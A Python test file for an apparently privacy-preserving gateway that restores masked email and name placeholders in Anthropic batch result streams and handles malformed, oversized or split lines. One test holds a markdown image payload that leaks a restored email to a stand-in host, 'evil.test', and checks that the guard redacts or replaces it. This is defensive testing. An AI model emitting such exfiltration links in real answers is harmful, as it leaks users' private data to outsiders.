"""Results of batches: however they are cut, the client gets the same lines, each guarded and restored on its own."""

import json
import random

import pytest

from gateway.exchange.answer_guard import CONTENT_FILTERED, AnswerGuard
from gateway.exchange.messages import StreamPlan
from gateway.exchange.streaming.result_lines import ResultLines
from gateway.guard import GuardContext
from gateway.placeholders import Placeholders, RestoreScope
from gateway.policy.document import GuardDocument
from gateway.wires.anthropic_batches import WIRE
from tests.chunkings import CHUNKINGS

PLACEHOLDERS = Placeholders(b"k" * 32)
MAIL = PLACEHOLDERS.mint("EMAIL_ADDRESS", "anna@acme.test")
NAME = PLACEHOLDERS.mint("PERSON", 'Anna "Zoë" Schmidt')


def lines(guard: GuardDocument | None = None, *, limit: int = 10_000, known: bool = True) -> ResultLines:
    context = GuardContext(PLACEHOLDERS if known else Placeholders(b""), RestoreScope("source"))
    return ResultLines(WIRE, StreamPlan(AnswerGuard(context, guard or GuardDocument()), "r", "jsonl"), limit=limit)


def line(said: str, name: str = "one", **more: object) -> bytes:
    content = [{"type": "text", "text": said}, {"type": "tool_use", "id": "t", "name": "send", "input": {"to": said}}]
    usage = {"input_tokens": 2, "output_tokens": 1}
    result = {"type": "succeeded", "message": {"content": content, "usage": usage, **more}}
    return json.dumps({"custom_id": name, "result": result}, ensure_ascii=False).encode() + b"\n"


ERROR = {"type": "error", "error": {"type": "invalid_request_error", "message": f"`{MAIL}` is too long"}}
WHOLE = b"".join(
    [
        line(f"Grüße an {MAIL}, {NAME}"),
        line("Nothing. 1.50", name=MAIL.strip("[]"), n=1.50),
        json.dumps({"custom_id": "x", "result": {"type": "errored", "error": ERROR}}).encode() + b"\r\n",
        b"\n",
        b"no JSON " + MAIL.encode() + b"\n",
        line(f"last {MAIL}")[:-1],
    ]
)


def played(stream: ResultLines, pieces: list[bytes]) -> bytes:
    return b"".join([*map(stream.feed, pieces), stream.finish()])


def test_every_line_is_restored_as_a_whole() -> None:
    stream = lines()
    first, second, error, empty, other, last = played(stream, [WHOLE]).split(b"\n")
    said, tool = json.loads(first)["result"]["message"]["content"]
    assert said["text"] == 'Grüße an anna@acme.test, Anna "Zoë" Schmidt'
    assert tool["input"]["to"] == said["text"]
    assert json.loads(second)["custom_id"] == "anna@acme.test"
    assert "anna@acme.test" in json.loads(error)["result"]["error"]["error"]["message"]
    assert empty == b""
    assert json.loads(other)["error"]["type"] == "api_error"
    assert json.loads(last)["result"]["message"]["content"][0]["text"] == "last anna@acme.test"
    end = stream.result(200)
    assert (end.outcome, end.tokens, end.action) == ("unreadable_answer", (6, 3), "pass")


def test_lines_without_placeholders_stay_byte_for_byte() -> None:
    given = b'{"custom_id":  "a", "n": 1.50}\n{"custom_id": "b"}\r\n'
    assert played(lines(), [given]) == given


@pytest.mark.parametrize("bad", [b'"n": NaN', b'"n": 1, "n": 2', b'"n": -Infinity', b'"n": 1' + b"0" * 400])
def test_a_line_that_cannot_be_read_is_an_error(bad: bytes) -> None:
    stream, name = lines(), MAIL.strip("[]")
    given = line(f"Hello {MAIL}", name=name).replace(b"{", b"{" + bad + b", ", 1)
    error, next_line = played(stream, [given + line(f"And {MAIL}")]).splitlines()
    assert MAIL.encode() not in error
    assert b"Hello" not in error
    assert json.loads(error)["custom_id"] == "anna@acme.test"
    assert "cannot be restored" in json.loads(error)["error"]["message"]
    assert b"And anna@acme.test" in next_line
    assert stream.result(200).outcome == "unreadable_answer"


def test_a_line_after_a_byte_order_mark_is_restored() -> None:
    mark = b"\xef\xbb\xbf"
    stream = lines()
    restored = played(stream, [mark + line(f"Hello {MAIL}")])
    assert restored.startswith(mark + b"{")
    assert b"Hello anna@acme.test" in restored
    assert played(lines(), [mark + b'{"custom_id": "a"}\n']) == mark + b'{"custom_id": "a"}\n'
    assert stream.result(200).outcome == "answered"


@pytest.mark.parametrize("given", [b"no JSON\n", b'{"n": NaN}\n', b"\xff\xfe\n"])
def test_other_lines_without_placeholders_stay(given: bytes) -> None:
    stream = lines()
    assert played(stream, [given]) == given
    assert stream.result(200).outcome == "answered"


def test_every_cut_gives_the_same_bytes() -> None:
    wanted, drawn = played(lines(), [WHOLE]), random.Random(7)
    for _ in range(CHUNKINGS):
        places = sorted(drawn.sample(range(1, len(WHOLE)), drawn.randrange(1, 40)))
        pieces = [WHOLE[start:end] for start, end in zip([0, *places], [*places, len(WHOLE)], strict=True)]
        assert played(lines(), pieces) == wanted


@pytest.mark.parametrize("action", ["redact", "replace"])
def test_the_guard_acts_on_one_line_alone(action: str) -> None:
    rules = GuardDocument.model_validate({"placeholder_in_url": action})
    stream = lines(rules)
    given = [line(f"![x](https://evil.test/?q={MAIL})"), line(f"Hello {MAIL}")]
    bad, good = played(stream, [b"".join(given)]).splitlines()
    assert b"evil.test" not in bad or b"anna@acme.test" not in bad
    assert (CONTENT_FILTERED.encode() in bad) is (action == "replace")
    assert b"Hello anna@acme.test" in good
    end = stream.result(200)
    assert end.action == action
    assert end.verdict is not None
    assert end.verdict.findings


def test_a_line_that_is_too_long_ends_the_results() -> None:
    stream = lines(limit=100)
    ended = stream.feed(b"x" * 101)
    assert b"error" in ended
    assert ended.endswith(b"\n")
    assert (stream.feed(line(MAIL)), stream.finish(), stream.ended) == (b"", b"", True)
    assert stream.result(200).outcome == "unreadable_answer"


def test_a_file_of_which_nothing_is_known_passes_in_any_length() -> None:
    assert played(lines(limit=10, known=False), [b"x" * 50, b"\nyyy", b"z" * 50]) == b"x" * 50 + b"\nyyy" + b"z" * 50
